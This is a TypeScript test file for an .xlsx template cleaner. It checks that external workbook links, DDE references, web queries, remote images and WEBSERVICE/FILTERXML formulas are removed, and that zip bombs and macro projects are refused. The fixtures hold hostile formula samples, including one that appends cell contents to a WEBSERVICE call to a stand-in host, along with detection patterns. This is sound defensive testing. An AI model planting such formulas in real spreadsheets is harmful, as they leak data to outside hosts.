/**
 * The .xlsx template's cleaner (SPEC §7, xlsx/template-clean.ts): what a
 * template would load from outside is out of the package every filler is
 * handed, said once with its places; the rest of the package as it was,
 * readable by exceljs and by our reader; a package with nothing to remove
 * handed on as its very bytes; a bomb or a macro project refused.
 */
import ExcelJS from "exceljs";
import { cleanXlsxTemplate, cleanedOrigin } from "../../src/xlsx/template-clean";
import { readWorkbook } from "../../src/xlsx/read/read-workbook";
import { issueMessage } from "../../src/core/i18n/issues";
import { blockTemplateXlsx, TEMPLATE_SHEET } from "../fixtures/templates/block-template";
import { CACHED, OUTSIDE_BOOK, OUTSIDE_CELLS, sheetPartOf, WEB_NAME, WEB_QUERY, withOutsideLinks, withWebQuery } from "../fixtures/templates/outside-links";
import { withBombPart } from "../support/bombs";
import { partText, unzipOf, zipOf } from "../support/zip";
import { readWithLibreOffice } from "../support/libreoffice";
import { scratchFolder } from "../support/cli";
import { writeFileSync } from "node:fs";
import path from "node:path";

const FILE = "Mau.xlsx";
const dir = scratchFolder("thidua-template-clean-");
let plain: Uint8Array;
let hostile: Uint8Array;

beforeAll(async () => {
  plain = new Uint8Array(await blockTemplateXlsx());
  hostile = await withOutsideLinks(plain, TEMPLATE_SHEET);
});

/** Every part's text, to look for what must not be there. */
const allText = (parts: ReadonlyMap<string, Uint8Array>) => [...parts].map(([name, data]) => `${name}\n${Buffer.from(data).toString("utf8")}`).join("\n");

describe("an .xlsx template's outside links, out of the package", () => {
  test("the fixture does hold them (else the test could not fail)", () => {
    const text = allText(unzipOf(hostile));
    for (const needle of ["xl/externalLinks/externalLink1.xml", "<externalReferences>", "WEBSERVICE", "[1]Giá", "http://x.example/logo.png", "ddeService"]) expect(text).toContain(needle);
  });

  test("no external link part, externalReferences, relationship, content type, web name or formula is left; hyperlinks stay", () => {
    const cleaned = cleanXlsxTemplate(hostile, FILE);
    if (!cleaned.ok) throw new Error("refused");
    const parts = unzipOf(cleaned.bytes);
    expect([...parts.keys()].filter((n) => n.startsWith("xl/externalLinks/"))).toEqual([]);
    const text = allText(parts);
    expect(text).not.toMatch(/externalReference|externalLink|WEBSERVICE|\[1\]|ddeLink|x\.example\/logo|rIdPic/);
    expect(text).not.toContain(`name="${WEB_NAME}"`);
    expect(partText(parts, "xl/workbook.xml")).toContain("_xlnm.Print_Area");
    const sheetRels = sheetPartOf(parts, TEMPLATE_SHEET).replace(/([^/]+)$/, "_rels/$1.rels");
    expect(partText(parts, sheetRels)).toContain("https://example.org/khoi");
  });

  test("the cells that read outside keep their last values; exceljs and our reader open the cleaned file", async () => {
    const cleaned = cleanXlsxTemplate(hostile, FILE);
    if (!cleaned.ok) throw new Error("refused");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(cleaned.bytes) as unknown as ArrayBuffer);
    const ws = book.getWorksheet(TEMPLATE_SHEET)!;
    expect(ws.getCell(OUTSIDE_CELLS.book).value).toBe(CACHED.book);
    expect(ws.getCell(OUTSIDE_CELLS.web).value).toBe(CACHED.web);
    expect(OUTSIDE_CELLS.shared.map((c) => ws.getCell(c).value)).toEqual([CACHED.shared, CACHED.shared]);
    expect(ws.getCell("A1").value).toBe("{{ Tên khối | in hoa }}");
    expect(book.definedNames.model.map((n) => n.name)).not.toContain(WEB_NAME);
    const read = await readWorkbook(cleaned.bytes, FILE);
    expect(read.ok).toBe(true);
  });

  test("LibreOffice, a second reader, opens the cleaned file with the last values and no formula reaching outside", async () => {
    const cleaned = cleanXlsxTemplate(hostile, FILE);
    if (!cleaned.ok) throw new Error("refused");
    const file = path.join(dir, "sach.xlsx");
    writeFileSync(file, cleaned.bytes);
    const read = await readWithLibreOffice(file, dir);
    const rows = read.csv.get(TEMPLATE_SHEET) ?? [];
    expect([rows[0]?.[11], rows[1]?.[11], rows[2]?.[11]]).toEqual([String(CACHED.book), CACHED.web, String(CACHED.shared)]);
    expect(read.fods).not.toMatch(/WEBSERVICE|gia-ca|x\.example/i);
  }, 120_000);

  test("said once, naming each link by what it reaches and where it was", () => {
    const cleaned = cleanXlsxTemplate(hostile, FILE);
    if (!cleaned.ok) throw new Error("refused");
    expect(cleaned.issues.map((i) => [i.code, i.severity, i.file])).toEqual([["TEMPLATE_EXTERNAL_REMOVED", "warning", FILE]]);
    const what = String(cleaned.issues[0]?.params.what);
    for (const place of [`externalLink "${OUTSIDE_BOOK}"`, 'DDE "cmd"', `WEBSERVICE "${WEB_NAME}"`, 'externalLink "giangoai"', `WEBSERVICE ${TEMPLATE_SHEET}!${OUTSIDE_CELLS.web}`, `externalLink ${TEMPLATE_SHEET}!${OUTSIDE_CELLS.book}`, `image ${TEMPLATE_SHEET}`]) expect(what).toContain(place);
    expect(issueMessage(cleaned.issues[0]!, "vi")).toContain(`"${OUTSIDE_BOOK}"`);
  });

  test("a link part put outside xl/externalLinks/ is found through the workbook's relationships and removed all the same", () => {
    const parts = unzipOf(hostile);
    for (const name of ["xl/externalLinks/externalLink1.xml", "xl/externalLinks/_rels/externalLink1.xml.rels"]) {
      parts.set(name.replace("externalLinks", "ngoai"), parts.get(name)!);
      parts.delete(name);
    }
    parts.set("xl/_rels/workbook.xml.rels", Buffer.from(partText(parts, "xl/_rels/workbook.xml.rels").replace("externalLinks/externalLink1.xml", "./ngoai/externalLink1.xml")));
    const cleaned = cleanXlsxTemplate(zipOf(Object.fromEntries(parts)), FILE);
    if (!cleaned.ok) throw new Error("refused");
    const out = unzipOf(cleaned.bytes);
    expect([...out.keys()].filter((n) => /ngoai|externalLinks/.test(n))).toEqual([]);
    expect(allText(out)).not.toMatch(/externalReference|externalLink|gia-ca/);
    expect(String(cleaned.issues[0]?.params.what)).toContain(`externalLink "${OUTSIDE_BOOK}"`);
  });

  test("a web query: its connection and query table go, the table it filled stays with its values; Excel's and LibreOffice's readers open it", async () => {
    const query = await withWebQuery(plain, TEMPLATE_SHEET);
    for (const needle of ["x.example/gia-vang", 'tableType="queryTable"', "xl/queryTables/queryTable1.xml"]) expect(allText(unzipOf(query))).toContain(needle);
    const cleaned = cleanXlsxTemplate(query, FILE);
    if (!cleaned.ok) throw new Error("refused");
    const parts = unzipOf(cleaned.bytes);
    expect([...parts.keys()].filter((n) => /connections|queryTable/.test(n))).toEqual([]);
    expect(allText(parts)).not.toMatch(/x\.example|queryTable|connectionId|\/connections"/);
    expect(cleaned.issues.map((i) => i.params.what)).toEqual([`connection "${WEB_QUERY}"`]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(cleaned.bytes) as unknown as ArrayBuffer);
    const ws = book.getWorksheet(TEMPLATE_SHEET)!;
    expect([ws.getCell("N2").value, ws.getCell("O2").value]).toEqual(["SJC", 80]);
    const file = path.join(dir, "truy-van.xlsx");
    writeFileSync(file, cleaned.bytes);
    const rows = (await readWithLibreOffice(file, dir)).csv.get(TEMPLATE_SHEET) ?? [];
    expect([rows[1]?.[13], rows[1]?.[14]]).toEqual(["SJC", "80"]);
  }, 120_000);

  test("a conditional format or a validation computing a WEBSERVICE goes whole, said by its range; a harmless validation stays, counted again", async () => {
    const parts = unzipOf(plain);
    const part = sheetPartOf(parts, TEMPLATE_SHEET);
    const xml = partText(parts, part);
    const at = Math.min(...["<hyperlinks", "<printOptions", "<pageMargins"].map((tag) => xml.indexOf(tag)).filter((i) => i >= 0));
    const rules =
      '<conditionalFormatting sqref="A2:A9"><cfRule type="expression" priority="1"><formula>LEN(WEBSERVICE("http://x.invalid/?"&amp;A2))&gt;0</formula></cfRule></conditionalFormatting>' +
      '<dataValidations count="2"><dataValidation type="list" allowBlank="1" sqref="B2:B9"><formula1>FILTERXML(WEBSERVICE("http://x.invalid/"),"//a")</formula1></dataValidation>' +
      '<dataValidation type="whole" allowBlank="1" sqref="C2:C9"><formula1>0</formula1><formula2>100</formula2></dataValidation></dataValidations>';
    parts.set(part, Buffer.from(xml.slice(0, at) + rules + xml.slice(at)));
    const cleaned = cleanXlsxTemplate(zipOf(Object.fromEntries(parts)), FILE);
    if (!cleaned.ok) throw new Error("refused");
    const sheetXml = partText(new Map(cleaned.parts), part);
    expect(allText(cleaned.parts)).not.toMatch(/WEBSERVICE|FILTERXML|x\.invalid/);
    expect(sheetXml).not.toContain("conditionalFormatting");
    expect(sheetXml).toContain('<dataValidations count="1"><dataValidation type="whole" allowBlank="1" sqref="C2:C9">');
    expect(cleaned.issues.map((i) => i.code)).toEqual(["TEMPLATE_EXTERNAL_REMOVED"]);
    expect(issueMessage(cleaned.issues[0]!, "vi")).toContain(`WEBSERVICE ${TEMPLATE_SHEET}!A2:A9`);
    expect(issueMessage(cleaned.issues[0]!, "vi")).toContain(`FILTERXML ${TEMPLATE_SHEET}!B2:B9`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(cleaned.bytes) as never);
    expect(book.getWorksheet(TEMPLATE_SHEET)).toBeDefined();
  });

  test("a template with nothing outside is handed on as its very bytes, with no issue", () => {
    const cleaned = cleanXlsxTemplate(plain, FILE);
    expect(cleaned.ok && cleaned.bytes === plain && cleaned.issues.length === 0).toBe(true);
  });

  test("a table's column named like a number, or `[0]` (the workbook itself), is no link to another workbook", () => {
    const parts = unzipOf(plain);
    const part = sheetPartOf(parts, TEMPLATE_SHEET);
    parts.set(part, Buffer.from(partText(parts, part).replace(/(<row r="3"[^>]*>[\s\S]*?)(<\/row>)/, "$1<c r=\"L3\"><f>SUM(Bang[2020])+[0]!Ten</f><v>1</v></c>$2")));
    const cleaned = cleanXlsxTemplate(zipOf(Object.fromEntries(parts)), FILE);
    expect(cleaned.ok && cleaned.issues).toEqual([]);
  });

  test("a bomb in an unused part, or a macro project, is refused before anything reads it", async () => {
    const bomb = cleanXlsxTemplate(await withBombPart(Buffer.from(hostile), "xl/media/bom.bin"), FILE);
    expect(bomb.ok ? null : [bomb.issue.code, bomb.issue.params.reason]).toEqual(["FILE_UNREADABLE", "part-too-large"]);
    const parts = unzipOf(plain);
    parts.set("xl/vbaProject.bin", new Uint8Array([1, 2, 3]));
    const macro = cleanXlsxTemplate(zipOf(Object.fromEntries(parts)), FILE);
    expect(macro.ok ? null : macro.issue.code).toBe("TEMPLATE_UNSAFE");
  });

  test("an origin from a file is read once and handed on cleaned; the open workbook's passes as it is", async () => {
    let reads = 0;
    const { origin, issues } = await cleanedOrigin({ kind: "file", file: FILE, read: () => (reads++, Promise.resolve(new Uint8Array(hostile).buffer)) });
    expect(issues.map((i) => i.code)).toEqual(["TEMPLATE_EXTERNAL_REMOVED"]);
    if (origin?.kind !== "file") throw new Error("no origin");
    expect(allText(unzipOf(new Uint8Array(await origin.read())))).not.toContain("WEBSERVICE");
    await origin.read();
    expect(reads).toBe(1);
    const open = { kind: "open-workbook" } as const;
    expect((await cleanedOrigin(open)).origin).toBe(open);
  });
});
